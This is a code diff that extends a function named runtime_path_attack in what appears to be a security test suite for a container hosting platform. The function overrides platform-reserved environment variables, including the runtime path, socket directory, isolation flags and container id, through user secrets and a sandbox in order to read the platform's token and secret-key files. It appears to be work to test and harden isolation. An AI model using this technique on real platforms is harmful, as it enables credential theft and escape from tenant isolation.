@@ -182,7 +182,13 @@ class Reader:
 
     @modal.method()
     def read(self, paths: list) -> dict:
-        return {"runtime_path": os.environ.get("HOMEPORT_RUNTIME_PATH"), "reads": {p: _try_read(p) for p in paths}}
+        return {"runtime_path": os.environ.get("HOMEPORT_RUNTIME_PATH"), "reads": {p: _try_read(p) for p in paths},
+                "platform_env": {k: os.environ.get(k) for k in PLATFORM_NAMES}}
+
+
+# What only the platform sets in a container (a socket directory the backend lets it write, its identity,
+# how it isolates itself), named by the attack below as a user would.
+PLATFORM_NAMES = ("HOMEPORT_WEB_SOCKET", "HOMEPORT_ISOLATE", "HOMEPORT_PRIVATE_NETWORK", "HOMEPORT_CONTAINER_ID")
 
 
 @app.function()
@@ -191,7 +197,8 @@ def runtime_path_attack(state_dir: str) -> dict:
     container keeps in view), in a class variant's secret and in a sandbox's environment, then reads
     its token and secret key from there."""
     paths = [os.path.join(state_dir, "token"), os.path.join(state_dir, "secret.key")]
-    variant = Reader.with_options(secrets=[modal.Secret.from_dict({"HOMEPORT_RUNTIME_PATH": state_dir})])
+    named = {"HOMEPORT_RUNTIME_PATH": state_dir, **{k: os.path.join(state_dir, "web", "x") for k in PLATFORM_NAMES}}
+    variant = Reader.with_options(secrets=[modal.Secret.from_dict(named)])
     out = {"variant": variant().read.remote(paths)}
     sb = modal.Sandbox.create("python3", "-c", "import os, sys\nfor p in sys.argv[1:]:\n    try:\n"
                               "        open(p, 'rb').read(8); print(p, 'read')\n    except OSError as e:\n"
